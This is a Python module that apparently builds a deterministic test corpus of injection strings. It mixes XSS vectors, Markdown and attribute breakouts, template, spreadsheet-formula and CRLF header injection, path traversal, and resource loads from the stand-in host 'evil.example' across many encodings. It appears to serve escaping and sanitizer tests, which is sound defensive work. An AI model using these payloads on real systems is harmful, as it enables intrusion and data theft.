"""Texts that would do harm wherever something forgets to escape them: vectors × encodings × wrappers.

Every text calls `_f(number)` where it runs, or asks `evil.example` for something, with the number by which
it is known. The same texts come out of every run, in the same order.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import NamedTuple
from urllib.parse import quote

ELSEWHERE = "evil.example"
ALL = 2100
LONGEST = 300
"""Longer ones fit no line."""


class Spell(NamedTuple):
    """A text, and the class of attack that its vector is of."""

    kind: str
    text: str


_VECTORS = {
    "script": r"""
<script>{js}</script>
<ScRiPt >{js}</sCrIpT >
<script src=//{host}/{n}></script>
<script type=module>{js}</script>
<script/x>{js}</script>
<svg><script>{js}</script></svg>
<svg><script href=//{host}/{n} /></svg>
<script>{js}//
<<script>{js}//<</script>
<iframe srcdoc="<script>parent.{js}</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.{js}&lt;/script&gt;"></iframe>""",
    "handler": r"""
<img src=x onerror={js}>
<IMG SRC=x OnErRoR={js}>
<img/src=x/onerror={js}>
<img src=x onerror="{js}">
<img src=x onerror='{js}'
<img src=`x` onerror={js}>
<image src=x onerror={js}>
<svg onload={js}>
<svg/onload={js}>
<body onload={js}>
<iframe onload={js}></iframe>
<details open ontoggle={js}>x</details>
<input autofocus onfocus={js}>
<select autofocus onfocus={js}></select>
<textarea autofocus onfocus={js}></textarea>
<video><source onerror={js}></video>
<audio src=x onerror={js}></audio>
<video src=x onerror={js}></video>
<object data=x onerror={js}></object>
<style onload={js}></style>
<link rel=stylesheet href=x onerror={js}>
<script src=x onerror={js}></script>
<marquee onstart={js}>x</marquee>
<a onclick={js} href=#>x</a>
<p onmouseover={js}>x</p>
<svg><animate onbegin={js} attributeName=x dur=1s></svg>
<svg><set onbegin={js} attributeName=x></svg>
<x contenteditable autofocus onfocus={js}>x</x>""",
    "link": r"""
<a href=javascript:{js}>x</a>
<a href="JaVaScRiPt:{js}">x</a>
<a href="java&#115;cript:{js}">x</a>
<a href="&#1;javascript:{js}">x</a>
<a href="java&Tab;script:{js}">x</a>
<a href="javascript&colon;{js}">x</a>
<a href="data:text/html,<script>{js}</script>">x</a>
<a href="vbscript:{js}">x</a>
<svg><a xlink:href="javascript:{js}"><text y=9>x</text></a></svg>
<math><mtext href="javascript:{js}">x</mtext></math>
<iframe src=javascript:parent.{js}></iframe>
<iframe src="data:text/html,<script>{js}</script>"></iframe>
<object data="javascript:{js}"></object>
<embed src="//{host}/{n}">
<form action=javascript:{js}><button>x</button></form>
<form><button formaction=javascript:{js}>x</button></form>
<base href=//{host}/>
<meta http-equiv=refresh content="9;url=//{host}/{n}">
<img src=//{host}/{n}>
<img srcset="//{host}/{n} 1x">
<area href=javascript:{js}>""",
    "markdown": r"""
[x](javascript:{js})
[x](JaVaScRiPt:{js})
[x](java&#x73;cript:{js})
[x](&#106;avascript:{js})
[x](<javascript:{js}>)
[x]( javascript:{js})
[x](javascript&colon;{js})
[x](javascript://%0a{js})
[x](data:text/html,<script>{js}</script>)
[x](vbscript:{js})
[x](https://a.example/" onmouseover="{js})
[x](https://a.example/ "x" onerror={js})
[x](https://a.example/ 'x" onclick="{js}')
[x](//{host}/{n})
[x](\\/\\/{host}/{n})
[x](/\\{host}/{n})
[x](https://bank.example@{host}/{n})
[x](https:{host}/{n})
[x][a] [a]: javascript:{js}
![x](https://{host}/{n}.png)
![x](//{host}/{n}.png)
![x](x" onerror="{js})
![x][a]
<javascript:{js}>
<javascript://x/%0a{js}>
<data:text/html,{js}>
<https://{host}/{n}"onmouseover="{js}>
[<img src=x onerror={js}>](https://a.example/)
[x](https://a.example/<img src=x onerror={js}>)
`<img src=x onerror={js}>`
\<img src=x onerror={js}\>
**<img src=x onerror={js}>**
[x](https://a.example){{onclick={js}}}
{{: onclick={js} }}""",
    "breakout": r"""
"><script>{js}</script>
'><script>{js}</script>
"><img src=x onerror={js}>
'><img src=x onerror={js}>
</title><script>{js}</script>
</textarea><script>{js}</script>
</style><script>{js}</script>
</script><script>{js}</script>
</svg><script>{js}</script>
</noscript><script>{js}</script>
</template><script>{js}</script>
</iframe><script>{js}</script>
--><script>{js}</script>
--!><script>{js}</script>
]]><script>{js}</script>
<!--</script><script>{js}</script>
<!--<script>
" onmouseover="{js}
" autofocus onfocus="{js}" x="
' autofocus onfocus='{js}' x='
x onfocus={js} autofocus
` onerror={js} `
\" onfocus={js} autofocus \"
/><img src=x onerror={js}>""",
    "mutation": r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">
<svg></p><style><a id="</style><img src=1 onerror={js}>">
<noscript><p title="</noscript><img src=x onerror={js}>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>
<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>
<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>
<table><td><script>{js}</script>
<select><template><img src=x onerror={js}></template></select><img src=x onerror={js}>
<xmp><p title="</xmp><img src=x onerror={js}>">
<svg><style><img src=x onerror={js}></style></svg>
<svg><desc><img src=x onerror={js}></desc></svg>
<p><svg><title><p><style></title><img src=x onerror={js}>""",
    "template": r"""
{{{{ 7*7 }}}}<img src=x onerror={js}>
{{% include "base.html" %}}<img src=x onerror={js}>
{{{{ ''.__class__.__mro__ }}}}
{{{{ site.__class__ }}}}{js}
{{{{constructor.constructor('{js}')()}}}}
{{% raw %}}<script>{js}</script>
{{# x #}}<script>{js}</script>
${{{js}}}<img src=x onerror={js}>
%(num)s {{n}} {{0.__class__}} <img src=x onerror={js}>
<%= {js} %>
#{{{js}}}
[[${{{js}}}]]""",
    "json": r"""
","x":"</script><script>{js}</script>
\u003cscript\u003e{js}\u003c/script\u003e
\x3cscript\x3e{js}\x3c/script\x3e
\";{js};//
'-{js}-'
';{js};'
*/{js}/*
</script><!--<script>{js}</script>-->
{{"__proto__":{{"x":"{js}"}}}}<svg onload={js}>
]}}}}</script><svg onload={js}>
$&$`$'<img src=x onerror={js}>""",
    "css": r"""
<style>@import url(//{host}/{n});</style>
<style>*{{background:url(//{host}/{n})}}</style>
<div style="background:url(//{host}/{n})">x</div>
<link rel=stylesheet href=//{host}/{n}>
<link rel=prefetch href=//{host}/{n}>
</style><link rel=stylesheet href=//{host}/{n}>
x;background:url(//{host}/{n})
}}*{{background:url(//{host}/{n})}}<img src=x onerror={js}>
<svg><image href=//{host}/{n} /></svg>
<svg><use href="//{host}/{n}#x"/></svg>
<table background=//{host}/{n}><td>x</table>""",
    "address": r"""
//{host}/{n}
\/\/{host}/{n}
/\{host}/{n}
https://{host}/{n}
https://bank.example@{host}/{n}
https://bank.example:x@{host}/{n}
https://{host}\@bank.example/{n}
https://a.example/"><img src=x onerror={js}>
https://a.example/'onmouseover='{js}
https://a.example/`onmouseover={js}
https://a.example/#<script>{js}</script>
https://a.example/?x=%22%3E%3Cscript%3E{js}%3C/script%3E
javascript:{js}
JaVaScRiPt:{js}
data:text/html,<script>{js}</script>
vbscript:{js}
mailto:x@a.example?body=<script>{js}</script>
file:///etc/passwd?{n}
../../../../{n}""",
    "cell": r"""
=cmd|' /C {js}'!A0
=HYPERLINK("//{host}/{n}","x")
+{js}
-{js}
@SUM({n})<img src=x onerror={js}>
=WEBSERVICE("https://{host}/{n}")""",
    "header": r"""
x%0d%0aLocation:%20//{host}/{n}
x&#13;&#10;Set-Cookie: {n}=<img src=x onerror={js}>
x?subject=a&body={js}&bcc=b
filename="x.html"; {js}; <svg onload={js}>""",
    "order": """
\u202e<script>{js}</script>
\u2066<img src=x onerror={js}>\u2069
\u200b<svg onload={js}>
\ufeff<img src=x onerror={js}>
\u00ad<img src=x onerror={js}>
\u200f<img src=x onerror={js}>
\x00<script>{js}</script>
<img src=x\x0bonerror={js}>
<img src=x\x1fonerror={js}>
<scr\x00ipt>{js}</scr\x00ipt>
\u2028{js}<svg onload={js}>
\ud83c\udff4<svg onload={js}>
＜script＞{js}＜/script＞
ｊavascript:{js}
\x85<svg onload={js}>""".encode("utf-16", "surrogatepass").decode("utf-16"),
}


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" if c in "<>\"'&:()" else c for c in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(c):06X}" if c in "<>\"'" else c for c in text)


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'&" else c for c in text)


_ENCODINGS: tuple[Callable[[str], str], ...] = (
    str,
    _entities,
    lambda text: quote(text, safe=" ()=/:"),
    _hexadecimal,
    _escaped,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace(" ", "/").replace("javascript", "java\tscript"),
    lambda text: text.replace("<", "<\t").replace("script", "SCRIPT"),
    lambda text: text.replace("&", "&amp;").replace("<", "&amp;lt;"),
)
_WRAPPERS = (
    "%s",
    "Before %s after",
    "**%s**",
    "[%s](https://a.example/)",
    '"%s',
    "'>%s",
    "</title>%s",
    "> %s",
    "<b>%s</b>",
    "&lt;%s",
    "- %s",
    "`x`%s",
    "[x](https://a.example/ \"%s\")",
    "*a* _b_ %s \\",
)  # fmt: skip


def spells(count: int) -> list[Spell]:
    """So many texts, of all classes alike, each once."""
    found: dict[str, Spell] = {}
    for kind, vector, encoding, wrapper in _combined():
        number = len(found)
        text = wrapper.replace(
            "%s", encoding(vector.format(js=f"_f({number})", host=ELSEWHERE, n=number))
        )
        if len(text) <= LONGEST:
            found.setdefault(text.replace(f"({number})", ""), Spell(kind, text))
        if len(found) == count:
            break
    assert len(found) == count
    return list(found.values())


def chosen(count: int) -> list[str]:
    """So many texts, from every class; all for 2,100."""
    every = spells(ALL)
    return [spell.text for spell in every[:: len(every) // count][:count]]


def _combined() -> Iterator[tuple[str, str, Callable[[str], str], str]]:
    """Every vector once, before any comes a second time."""
    vectors = [
        (kind, line) for kind, lines in _VECTORS.items() for line in lines.split("\n") if line
    ]
    for turn in range(len(_ENCODINGS) * len(_WRAPPERS)):
        for place, (kind, vector) in enumerate(vectors):
            # By turns the plain vector in the next wrapper, and any encoding in any wrapper.
            way = 0 if turn % 2 == 0 else 1 + (place + turn) % (len(_ENCODINGS) - 1)
            wrapper = turn // 2 if way == 0 else place // 3 + turn
            yield kind, vector, _ENCODINGS[way], _WRAPPERS[wrapper % len(_WRAPPERS)]
